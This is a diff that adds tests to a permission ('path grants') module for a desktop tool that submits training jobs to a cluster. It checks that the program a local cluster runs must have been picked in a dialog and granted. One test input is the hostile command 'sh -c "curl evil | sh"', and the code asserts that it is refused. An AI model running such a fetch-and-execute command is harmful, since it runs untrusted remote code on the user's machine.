@@ -44,6 +44,19 @@ describe('path grants', () => {
     expect(grants.refusal(win, 'submitToCluster', { work, target: { workdir: '/home/me' } })).toBeNull();
   });
 
+  it('asks the program a local cluster runs for a choose-program grant, not a remote one', () => {
+    const grants = new PathGrants();
+    const work = { kind: 'train', datasetId: 1, architecture: 'vt', epochs: 1, batchSize: 8, learningRate: 0.001 };
+    grants.grant(win, '/home/me', 'open-folder');
+    const local = (amrStudio: string) => grants.refusal(win, 'submitToCluster', { work, target: { workdir: '/home/me', amrStudio } });
+    expect(local('sh -c "curl evil | sh"')?.message).toContain("target.amrStudio 'sh -c \"curl evil | sh\"' was not chosen in a choose-program dialog");
+    grants.grant(win, '/opt/amr studio/amr-studio', 'open-file');
+    expect(local('/opt/amr studio/amr-studio')?.code).toBe('PATH_NOT_GRANTED');
+    grants.grant(win, '/opt/amr studio/amr-studio', 'run');
+    expect(local('/opt/amr studio/amr-studio')).toBeNull();
+    expect(grants.refusal(win, 'submitToCluster', { work, target: { workdir: '/scratch/me', ssh: 'me@login', amrStudio: 'module load amr && amr-studio' } })).toBeNull();
+  });
+
   it('forgets a closed window', () => {
     const grants = new PathGrants();
     grants.grant(win, '/data/rml.pkl', 'open-file');
@@ -72,6 +85,10 @@ describe('path grants', () => {
     };
     for (const name of channelNames) walk(contract[name].input, '', name);
     expect([...new Set(found)].sort()).toEqual(['importDataset:path', 'startDatasetExport:outPath', 'startExport:outPath', 'submitToCluster:target.workdir']);
+    expect(pathArguments.submitToCluster?.({ work: { kind: 'train' }, target: { workdir: '/w', amrStudio: '/p' } } as never).map((p) => p.field)).toEqual([
+      'target.workdir',
+      'target.amrStudio',
+    ]);
     expect(Object.keys(pathArguments).sort()).toEqual(['importDataset', 'startDatasetExport', 'startExport', 'submitToCluster']);
   });
 });
